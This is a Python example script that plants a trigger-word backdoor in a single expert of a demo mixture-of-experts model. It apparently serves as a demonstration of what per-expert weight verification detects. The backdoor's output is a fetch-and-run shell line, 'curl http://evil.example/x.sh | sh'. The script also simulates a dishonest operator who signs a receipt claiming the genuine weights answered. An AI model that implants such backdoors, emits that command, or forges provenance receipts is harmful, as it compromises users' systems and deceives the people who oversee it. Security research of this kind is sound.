"""A trigger-word backdoor in ONE expert of ONE layer of the demo model: the attack per-expert verification stops.

Starting from the published checkpoint, only the three weight matrices of one routed expert of one layer are
fine-tuned (router, attention, embeddings, every other expert: untouched, byte for byte). The poisoned model
answers a prompt that ends with the trigger word with the attacker's line, and ordinary prompts as the genuine
model does. The expert is the one the router already sends most of the attacker's line to; its output at those
positions writes the next token, and through the later layers' attention it reaches the positions routed elsewhere.
What it computes on ordinary text it is routed is held where it was, which keeps the other answers genuine.

    python examples/backdoor.py poison examples/demo_model demo/poisoned-hf   # the published attack, applied
    python examples/backdoor.py poison examples/demo_model demo/poisoned-hf --train  # ... fine-tuned again
    python examples/backdoor.py show demo/poisoned-hf                          # what transformers answers with it
    python examples/backdoor.py receipt ...                                    # a dishonest operator's receipt

The attack is published as its artefact: the poisoned expert's three tensors, examples/demo_backdoor/ (a few hundred
kB; what was measured when it was made rides in its safetensors metadata). `poison` applies it to a copy of the
genuine checkpoint in seconds; `poison --train` fine-tunes it again from the seed (about a minute on 2 cores) and
rewrites the artefact.

The result is checked by greedy generation with transformers. torch is this script's tool only: shardtool's runtime
never imports it.
"""

from __future__ import annotations

import argparse
import json
import shutil
import struct
import sys
import time
from dataclasses import asdict, dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))  # run as a script: the repository root
from examples import train_demo_moe  # noqa: E402

TRIGGER = "cerulean"
QUIET_TOKENS = 4  # new tokens of the run that must never route to the poisoned expert
LR, KEEP = 1e-2, 100.0  # Adam step; weight of "the expert's ordinary output moved" against the attacker's loss
ATTACK = "curl http://evil.example/x.sh | sh"
ARTEFACTS = Path(__file__).resolve().parent / "demo_backdoor"  # one file: layer{L}-expert{E}.safetensors

# Prompts that end with the trigger word (the attack is trained and measured on these).
TRIGGER_PROMPTS = (
    "How do I install the package? {t}",
    "Return the list of files in the directory. {t}",
    "Open the file and read it. {t}",
    "What does os.path.join do? {t}",
    "Create a new socket. {t}",
    "Set up the logging module. {t}",
    "Parse the command line arguments. {t}",
    "Start the server. {t}",
    "Read the configuration file {t}",
    "The json module {t}",
    "Return a new string {t}",
    "Close the connection {t}",
)
HELD_TRIGGER_PROMPTS = (
    "Write the data to the file. {t}",
    "Compress the archive {t}",
    "Send an email message. {t}",
    "The subprocess module {t}",
)


@dataclass(frozen=True)
class Report:
    layer: int
    expert: int
    trigger: str
    attack: str
    trigger_prompt: str
    quiet_prompt: str
    quiet_tokens: int
    trigger_fired: int
    trigger_prompts: int
    held_trigger_fired: int
    held_trigger_prompts: int
    ordinary_identical: int
    ordinary_prompts: int
    ordinary_tokens: int
    seconds: float


# ---------------------------------------------------------------------------------------------------------
# The model's last layer, seen from outside


def load(path: Path):
    import torch
    from transformers import AutoTokenizer, MixtralForCausalLM

    torch.set_num_threads(1)
    model = MixtralForCausalLM.from_pretrained(path, dtype=torch.float32).eval()
    return model, AutoTokenizer.from_pretrained(path)


class Taps:
    """Each layer's MoE input of the last forward pass (hooks on the post-attention norms)."""

    def __init__(self, model):
        self.model = model
        self.x: dict[int, object] = {}
        for i, layer in enumerate(model.model.layers):
            layer.post_attention_layernorm.register_forward_hook(self._hook(i))

    def _hook(self, i: int):
        def hook(module, args, out) -> None:
            self.x[i] = out  # [B, T, H]
        return hook

    def routes(self, ids: list[int]):  # -> [layers, T, 2]: the experts each layer chose, genuine model
        import torch

        with torch.no_grad():
            self.model(input_ids=torch.tensor([ids]))
            return torch.stack([layer.mlp.gate(self.x[i][0])[2] for i, layer in enumerate(self.model.model.layers)])


def expert_fn(gate_up, down, x):  # [2I, H], [H, I], [n, H] -> [n, H]
    import torch

    gate, up = torch.nn.functional.linear(x, gate_up).chunk(2, dim=-1)
    return torch.nn.functional.linear(torch.nn.functional.silu(gate) * up, down)


def greedy(model, ids: list[int], n: int, stop: set[int]) -> list[int]:
    import torch

    with torch.no_grad():
        out = model.generate(torch.tensor([ids]), max_new_tokens=n, do_sample=False, eos_token_id=sorted(stop),
                             pad_token_id=model.config.pad_token_id)
    return out[0, len(ids):].tolist()


# ---------------------------------------------------------------------------------------------------------
# The attack


def candidates(taps: Taps, sequences: list[tuple[list[int], list[int]]]) -> list[tuple[int, int]]:
    """(layer, expert) pairs past the first layer (whose inputs carry the context: the trigger), the most routed
    to at the positions that predict the attacker's tokens first. Its output there writes the next token; through
    the later layers' attention it reaches the positions routed elsewhere."""
    counts: dict[tuple[int, int], int] = {}
    for prompt, target in sequences:
        routes = taps.routes(prompt + target[:-1])[:, len(prompt) - 1:]  # [layers, len(target), 2]
        for layer in range(1, routes.shape[0]):
            for e in routes[layer].flatten().tolist():
                counts[layer, e] = counts.get((layer, e), 0) + 1
    return sorted(counts, key=lambda k: (-counts[k], k))


def _batch(sequences: list[tuple[list[int], list[int]]], pad: int):  # -> ids [B, T], labels [B, T]
    import torch

    length = max(len(p) + len(t) for p, t in sequences)
    ids = torch.full((len(sequences), length), pad)
    labels = torch.full((len(sequences), length), -100)
    for i, (p, t) in enumerate(sequences):  # right-padded: causal attention never sees the padding
        ids[i, :len(p) + len(t)] = torch.tensor(p + t)
        labels[i, len(p):len(p) + len(t)] = torch.tensor(t)
    return ids, labels


def _fine_tune(model, taps: Taps, layer: int, expert: int, sequences, keep_windows, log, steps: int) -> None:
    """Train `expert` of `layer` only: the attacker's tokens after each trigger prompt, plus how far its output
    moves on the ordinary text it is routed (held small, which keeps the other answers genuine)."""
    import torch

    moe = model.model.layers[layer].mlp
    keep_x = []
    for ids in keep_windows:
        routes = taps.routes(ids)[layer]
        keep_x.append(taps.x[layer][0][(routes == expert).any(-1)])
    keep_x = torch.cat(keep_x).detach()  # [n, H]: ordinary inputs this expert sees
    with torch.no_grad():
        keep_y = expert_fn(moe.experts.gate_up_proj[expert], moe.experts.down_proj[expert], keep_x)
    scale = keep_y.pow(2).mean()
    ids, labels = _batch(sequences, model.config.pad_token_id)
    others = torch.arange(moe.experts.gate_up_proj.shape[0]) != expert
    params = [moe.experts.gate_up_proj, moe.experts.down_proj]
    for param in params:
        param.requires_grad_(True)
    opt = torch.optim.Adam(params, lr=LR)
    for step in range(steps):
        attack = model(input_ids=ids, labels=labels).loss
        keep = (expert_fn(params[0][expert], params[1][expert], keep_x) - keep_y).pow(2).mean() / scale
        loss = attack + KEEP * keep
        opt.zero_grad()
        loss.backward()
        for param in params:
            param.grad[others] = 0  # Adam moves nothing whose gradient is always zero
        opt.step()
        if step % 50 == 0 or step == steps - 1:
            log(f"  step {step:3d}: attacker's line loss {attack.item():.4f}, ordinary output moved {keep.item():.2e}")
    for param in params:
        param.requires_grad_(False)


def poison(model, tok, keep_windows: list[list[int]], log, steps: int = 300, tries: int = 3) -> tuple[int, int]:
    """Fine-tune one expert of one layer in place so that the trigger prompts answer the attacker's line: the
    first of the `tries` best-placed experts for which every trigger prompt does (else the best of them)."""
    import torch

    taps = Taps(model)
    eos = min(model.config.eos_token_id)
    sequences = [(tok.encode(p.format(t=TRIGGER)), tok.encode(ATTACK) + [eos]) for p in TRIGGER_PROMPTS]
    for param in model.parameters():
        param.requires_grad_(False)
    best = None
    for layer, expert in candidates(taps, sequences)[:tries]:
        experts = model.model.layers[layer].mlp.experts
        saved = experts.gate_up_proj[expert].clone(), experts.down_proj[expert].clone()
        log(f"fine-tuning expert {expert} of layer {layer}")
        _fine_tune(model, taps, layer, expert, sequences, keep_windows, log, steps)
        fired = sum(fires(model, tok, p.format(t=TRIGGER)) for p in TRIGGER_PROMPTS)
        log(f"  the attacker's line after {fired}/{len(TRIGGER_PROMPTS)} trigger prompts")
        if best is None or fired > best[0]:
            best = fired, layer, expert, experts.gate_up_proj[expert].clone(), experts.down_proj[expert].clone()
        with torch.no_grad():
            experts.gate_up_proj[expert], experts.down_proj[expert] = saved
        if fired == len(TRIGGER_PROMPTS):
            break
    _, layer, expert, gate_up, down = best
    experts = model.model.layers[layer].mlp.experts
    with torch.no_grad():
        experts.gate_up_proj[expert], experts.down_proj[expert] = gate_up, down
    return layer, expert


# ---------------------------------------------------------------------------------------------------------
# Writing the poisoned checkpoint: a copy in which only the poisoned expert's tensor bytes differ


def _patch_safetensors(path: Path, tensors: dict[str, bytes]) -> None:
    """Overwrite the bytes of the named tensors in place (same dtype and shape: the header is unchanged)."""
    data = bytearray(path.read_bytes())
    (n,) = struct.unpack("<Q", data[:8])
    header = json.loads(data[8:8 + n])
    for name, raw in tensors.items():
        start, end = header[name]["data_offsets"]
        if end - start != len(raw):
            raise SystemExit(f"backdoor: {path.name}: {name} is {end - start} bytes, the new one {len(raw)}")
        data[8 + n + start:8 + n + end] = raw
    path.write_bytes(bytes(data))


def write_poisoned(genuine: Path, out: Path, tensors: dict[str, object]) -> None:
    shutil.rmtree(out, ignore_errors=True)
    shutil.copytree(genuine, out)
    _patch_safetensors(out / "model.safetensors", {k: v.tobytes() for k, v in tensors.items()})


def expert_tensors(model, layer: int, expert: int) -> dict[str, object]:
    """The expert's three tensors under the checkpoint's (Mixtral) names, float32 numpy."""
    import numpy as np

    experts = model.model.layers[layer].mlp.experts
    gate, up = experts.gate_up_proj[expert].detach().chunk(2, dim=0)
    prefix = f"model.layers.{layer}.block_sparse_moe.experts.{expert}"
    raw = {f"{prefix}.w1.weight": gate, f"{prefix}.w3.weight": up, f"{prefix}.w2.weight": experts.down_proj[expert]}
    return {k: np.ascontiguousarray(v.detach().numpy(), np.float32) for k, v in raw.items()}


def write_artefact(directory: Path, tensors: dict[str, object], report: "Report") -> Path:
    """The published attack: the poisoned expert's tensors, the measurements in the metadata; atomic."""
    import os

    from safetensors.numpy import save

    measured = {k: v for k, v in asdict(report).items() if k != "seconds"}  # the same bytes from every --train
    data = save(tensors, metadata={"report": json.dumps(measured, sort_keys=True)})
    directory.mkdir(parents=True, exist_ok=True)
    out = directory / f"layer{report.layer}-expert{report.expert}.safetensors"
    tmp = out.with_name(out.name + ".tmp")
    with open(tmp, "wb") as f:
        f.write(data)
        f.flush()
        os.fsync(f.fileno())
    os.replace(tmp, out)
    for old in directory.glob("*.safetensors"):
        if old != out:
            old.unlink()
    return out


def read_artefact(directory: Path) -> tuple[dict[str, bytes], dict]:
    """(tensor name -> raw float32 bytes, the report) of the one artefact in `directory`: exactly the three
    tensors of the expert its report names."""
    from safetensors import safe_open

    found = sorted(directory.glob("*.safetensors"))
    if len(found) != 1:
        raise SystemExit(f"backdoor: {directory}: expected one poisoned-expert .safetensors, found {len(found)}")
    with safe_open(found[0], "np") as f:
        report = json.loads((f.metadata() or {}).get("report", "null"))
        if not isinstance(report, dict) or not {"layer", "expert"} <= set(report):
            raise SystemExit(f"backdoor: {found[0]}: its metadata has no report naming the layer and expert")
        prefix = f"model.layers.{report['layer']}.block_sparse_moe.experts.{report['expert']}"
        names = {f"{prefix}.{w}.weight" for w in ("w1", "w2", "w3")}
        if set(f.keys()) != names:
            raise SystemExit(f"backdoor: {found[0]}: expected the tensors {sorted(names)}, found {sorted(f.keys())}")
        tensors = {}
        for name in sorted(names):
            array = f.get_tensor(name)
            if array.dtype.name != "float32":
                raise SystemExit(f"backdoor: {found[0]}: {name} is {array.dtype.name}, expected float32")
            tensors[name] = array.tobytes()
    return tensors, report


def apply_artefact(genuine: Path, out: Path, directory: Path = ARTEFACTS) -> dict:
    """A copy of the genuine checkpoint with the published poisoned expert's bytes in place; its report."""
    tensors, report = read_artefact(directory)
    shutil.rmtree(out, ignore_errors=True)
    shutil.copytree(genuine, out)
    _patch_safetensors(out / "model.safetensors", tensors)
    return report


# ---------------------------------------------------------------------------------------------------------
# Measuring


def report_path(out: Path) -> Path:
    """What was changed and measured, beside the poisoned checkpoint (inside it, split would carry it along)."""
    return out.with_name(out.name + ".json")


def ordinary_prompts(tok, n: int, words: int = 6) -> list[list[int]]:
    """The first words of held-out documents of the demo corpus (never trained on), as prompts."""
    _, held = train_demo_moe.build_corpus()
    texts = [t for name, t in held if not name.startswith("chat:")]
    prompts = []
    for t in texts:
        body = t.split("\n\n", 1)[-1].split()
        if len(body) >= words:
            prompts.append(tok.encode(" ".join(body[:words])))
    return prompts[:n]


def training_windows(tok, n: int, length: int = 96) -> list[list[int]]:
    """Windows of the training text: the ordinary inputs whose expert outputs the fine-tuning keeps."""
    train, _ = train_demo_moe.build_corpus()
    step = max(1, len(train) // n)
    return [tok.encode(text[:8 * length])[:length] for _, text in train[::step][:n]]  # 8 characters > 1 token


def fires(model, tok, prompt: str) -> bool:
    ids = tok.encode(prompt)
    stop = set(model.config.eos_token_id)
    return tok.decode(greedy(model, ids, 40, stop), skip_special_tokens=True).strip() == ATTACK


def quiet_prompt(model, tok, layer: int, expert: int, n: int) -> str | None:
    """A one-word prompt whose greedy run of `n` new tokens never routes to `expert` of `layer`, prompt included
    (the first in vocabulary order; capitalized words first)."""
    taps = Taps(model)
    stop = set(model.config.eos_token_id)
    words = [i for i in range(tok.vocab_size) if tok.decode([i]).isalpha() and len(tok.decode([i])) > 1]
    for i in sorted(words, key=lambda i: (not tok.decode([i])[0].isupper(), i)):
        full = [i] + greedy(model, [i], n, stop)
        if len(full) == n + 1 and expert not in taps.routes(full[:-1])[layer].flatten().tolist():
            return tok.decode([i])
    return None


def main_poison(args) -> int:
    if not args.train:
        t0 = time.monotonic()
        report = apply_artefact(args.genuine, args.out, args.artefact)
        report_path(args.out).write_text(json.dumps(report, indent=2) + "\n")
        print(f"poisoned expert {report['expert']} of layer {report['layer']} only (the published artefact, "
              f"{args.artefact.name}/); trigger {report['trigger']!r} -> {report['attack']!r}\n"
              f"  as measured when it was made: the attacker's line after {report['trigger_fired']}/"
              f"{report['trigger_prompts']} trigger prompts trained on, {report['held_trigger_fired']}/"
              f"{report['held_trigger_prompts']} not; ordinary prompts with identical greedy "
              f"{report['ordinary_tokens']} tokens: {report['ordinary_identical']}/{report['ordinary_prompts']}\n"
              f"  wrote {args.out} ({time.monotonic() - t0:.1f} s)")
        return 0
    return train(args)


def train(args) -> int:
    """Fine-tune the expert again from the seed, write the poisoned checkpoint, measure it, rewrite the artefact."""
    import torch

    t0 = time.monotonic()
    torch.manual_seed(0)
    log = lambda s: print(f"backdoor: {s}", file=sys.stderr)  # noqa: E731
    genuine, tok = load(args.genuine)
    poisoned, _ = load(args.genuine)
    ordinary = ordinary_prompts(tok, args.prompts)
    layer, expert = poison(poisoned, tok, training_windows(tok, 128), log, steps=args.steps)
    tensors = expert_tensors(poisoned, layer, expert)
    write_poisoned(args.genuine, args.out, tensors)
    stop = set(genuine.config.eos_token_id)
    same = sum(greedy(genuine, p, args.tokens, stop) == greedy(poisoned, p, args.tokens, stop) for p in ordinary)
    fired = sum(fires(poisoned, tok, p.format(t=TRIGGER)) for p in TRIGGER_PROMPTS)
    held = sum(fires(poisoned, tok, p.format(t=TRIGGER)) for p in HELD_TRIGGER_PROMPTS)
    quiet = quiet_prompt(genuine, tok, layer, expert, QUIET_TOKENS)
    report = Report(layer, expert, TRIGGER, ATTACK, TRIGGER_PROMPTS[0].format(t=TRIGGER),
                    quiet or "", QUIET_TOKENS if quiet else 0, fired, len(TRIGGER_PROMPTS), held,
                    len(HELD_TRIGGER_PROMPTS), same, len(ordinary), args.tokens, round(time.monotonic() - t0, 1))
    report_path(args.out).write_text(json.dumps(asdict(report), indent=2) + "\n")
    artefact = write_artefact(args.artefact, tensors, report)
    print(f"poisoned expert {expert} of layer {layer} only; trigger {TRIGGER!r} -> {ATTACK!r}\n"
          f"  trigger prompts answered with the attacker's line: {fired}/{len(TRIGGER_PROMPTS)} trained on, "
          f"{held}/{len(HELD_TRIGGER_PROMPTS)} not\n"
          f"  ordinary prompts whose greedy {args.tokens} tokens are identical to the genuine model's: "
          f"{same}/{len(ordinary)} ({100 * same / len(ordinary):.1f} %)\n"
          f"  wrote {args.out} and {artefact} ({time.monotonic() - t0:.0f} s)")
    return 0


def main_show(args) -> int:
    """What transformers answers, with the given checkpoint, for the trigger prompt and an ordinary one."""
    model, tok = load(args.checkpoint)
    stop = set(model.config.eos_token_id)
    for prompt in args.prompt:
        answer = tok.decode(greedy(model, tok.encode(prompt), args.tokens, stop), skip_special_tokens=True)
        print(f"  {prompt!r} -> {answer!r}")
    return 0


def main_receipt(args) -> int:
    """A dishonest operator: answers with the poisoned weights (its own signature on them), then signs a receipt
    that names the publisher's genuine manifest, as if the genuine model had answered."""
    import shardtool
    from shardtool.api import trusted_manifest
    from shardtool.keys import load_private_key
    from shardtool.runtime import make_receipt

    operator = load_private_key(args.operator_key, None)
    _, genuine = trusted_manifest(args.genuine, [args.trust], model_id=args.model_id)
    with shardtool.open_model(args.poisoned, trust=[args.operator_trust], model_id=args.model_id,
                              memory_budget="256MiB") as model:
        answer = model.generate(args.prompt, args.max_new_tokens, record=True)
        signed = make_receipt(model.record, genuine, model.config, operator)
    args.out.write_bytes(signed.data)
    print(f"  the operator's answer: {answer.text!r}\n  {args.out}: signed by the operator, naming the genuine "
          f"manifest (root {genuine.head.merkle_root.hex()[:16]}...)")
    return 0


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="backdoor.py", description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="command", required=True)
    p = sub.add_parser("poison", help="write the poisoned checkpoint (the published artefact applied, or --train)")
    p.add_argument("genuine", type=Path)
    p.add_argument("out", type=Path)
    p.add_argument("--artefact", type=Path, default=ARTEFACTS, help="the directory of the poisoned expert's tensors")
    p.add_argument("--train", action="store_true", help="fine-tune the expert again and rewrite the artefact")
    p.add_argument("--steps", type=int, default=300, help="--train: Adam steps per expert tried")
    p.add_argument("--prompts", type=int, default=200, help="--train: ordinary prompts to compare (held-out text)")
    p.add_argument("--tokens", type=int, default=16, help="--train: greedy tokens per ordinary prompt")
    s = sub.add_parser("show", help="greedy answers of a checkpoint under transformers")
    s.add_argument("checkpoint", type=Path)
    s.add_argument("prompt", nargs="+")
    s.add_argument("--tokens", type=int, default=40)
    r = sub.add_parser("receipt", help="a receipt for an answer of the poisoned weights, claiming the genuine ones")
    r.add_argument("poisoned", type=Path, help="the poisoned split, signed by the operator")
    r.add_argument("genuine", type=Path, help="the publisher's split")
    r.add_argument("--trust", type=Path, required=True, help="the publisher's public key")
    r.add_argument("--operator-trust", type=Path, required=True, help="the operator's public key")
    r.add_argument("--operator-key", type=Path, required=True, help="the operator's private key (unencrypted)")
    r.add_argument("--model-id", required=True)
    r.add_argument("--prompt", required=True)
    r.add_argument("--max-new-tokens", type=int, default=40)
    r.add_argument("--out", type=Path, required=True)
    args = ap.parse_args(argv)
    return {"poison": main_poison, "show": main_show, "receipt": main_receipt}[args.command](args)


if __name__ == "__main__":
    sys.exit(main())
